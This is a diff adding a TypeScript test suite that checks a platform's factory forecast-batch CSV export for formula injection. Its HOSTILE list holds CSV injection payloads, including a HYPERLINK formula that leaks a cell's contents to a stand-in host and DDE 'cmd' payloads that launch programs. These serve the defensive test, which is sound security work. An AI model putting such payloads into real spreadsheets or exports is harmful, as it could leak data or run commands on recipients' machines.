@@ -1,0 +1,101 @@
+import type { RouteDef } from '../../src/platform/http';
+import { aConsumer, aFactory } from '../support/builders';
+import { anOpenCampaign, paidPledge } from '../support/campaigns';
+import { buildWorld, type World } from './support/fuzz-world';
+
+/**
+ * CSV injection: a factory opens our exports in Excel, and names in them come from outside (campaign
+ * titles, product names). A cell that starts with =, +, -, @, a tab or a carriage return would run as a
+ * formula; every such cell must be neutralised. Numbers stay numbers.
+ */
+let w: World;
+beforeAll(async () => {
+  w = await buildWorld();
+});
+afterAll(() => w?.close());
+
+const nameOf = (r: RouteDef) => `${r.method} ${r.path}`;
+/** The exports known to answer CSV; the first test fails when another route starts to. */
+const CSV_EXPORTS = ['get /v1/factory/forecast-batches/:id'];
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+];
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+describe('CSV exports', () => {
+  test('the routes that answer CSV are the ones checked here', async () => {
+    const ids: Record<string, string> = {
+      factories: w.a.id, campaigns: w.campaigns.openA, pledges: w.alice.activePledgeId, payments: w.alice.unpaidPaymentId, subscriptions: w.alice.subscriptionId, 'forecast-batches': w.a.batchId,
+    };
+    const answeringCsv: string[] = [];
+    for (const r of w.t.app.routes.filter((route) => route.method === 'get')) {
+      const segments = r.path.split('/');
+      const path = segments.map((s, i) => (s.startsWith(':') ? ids[segments[i - 1]] : s)).join('/') + (r.path === '/v1/factory/picking-lists' ? '?shipDate=2030-01-01' : '');
+      const auth = r.access === 'public' ? undefined : r.access.includes('factory') ? w.a.user.auth : r.access.includes('operator') ? w.operator.auth : w.alice.auth;
+      const req = w.t.http.get(path).set('Accept', 'text/csv');
+      const res = await (auth ? req.set(auth) : req);
+      expect({ route: nameOf(r), status: res.status }).toEqual({ route: nameOf(r), status: 200 });
+      if (String(res.headers['content-type']).startsWith('text/csv')) answeringCsv.push(nameOf(r));
+    }
+    expect(answeringCsv).toEqual(CSV_EXPORTS);
+  });
+
+  test('forecast batches: names that start like a formula are neutralised in every cell, numbers (negative changes too) are left alone', async () => {
+    const { t, operator, clock } = w;
+    const factory = await aFactory(t, operator);
+    const consumer = await aConsumer(t);
+    const pledges = [];
+    for (const [i, title] of HOSTILE.entries()) {
+      const c = await anOpenCampaign(t, operator, factory.id, clock, { title, productName: HOSTILE[(i + 1) % HOSTILE.length] });
+      pledges.push(await paidPledge(t, consumer, c.id, { colour: 'black', size: 'M' }, 2));
+    }
+    await t.http.post(`/v1/factories/${factory.id}/forecast-batches`).set(operator.auth).expect(200);
+    // A cancelled pledge: the next version carries negative changes ("-2"), which are numbers and stay as they are.
+    await t.http.post(`/v1/pledges/${pledges[0].id}/cancel`).set(consumer.auth).set('Idempotency-Key', `cancel-${pledges[0].id}`).expect(200);
+    const published = await t.http.post(`/v1/factories/${factory.id}/forecast-batches`).set(operator.auth).expect(200);
+
+    const byQuery = await t.http.get(`/v1/factory/forecast-batches/${published.body.batch.id}?format=csv`).set(factory.user.auth).expect(200);
+    const byAccept = await t.http.get(`/v1/factory/forecast-batches/${published.body.batch.id}`).set(factory.user.auth).set('Accept', 'text/csv').expect(200);
+    for (const res of [byQuery, byAccept]) {
+      const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).flat();
+      const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
+      expect(formulas).toEqual([]);
+      for (const title of HOSTILE) expect(cells).toContain(`'${title}`);
+      expect(cells).toContain('-2');
+    }
+  });
+});
+
+/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (ch === '"') {
+      quoted = !quoted;
+    } else if (!quoted && ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+      i++;
+    } else {
+      cell += ch;
+    }
+  }
+  if (row.length > 0 || cell !== '') rows.push([...row, cell]);
+  return rows;
+}
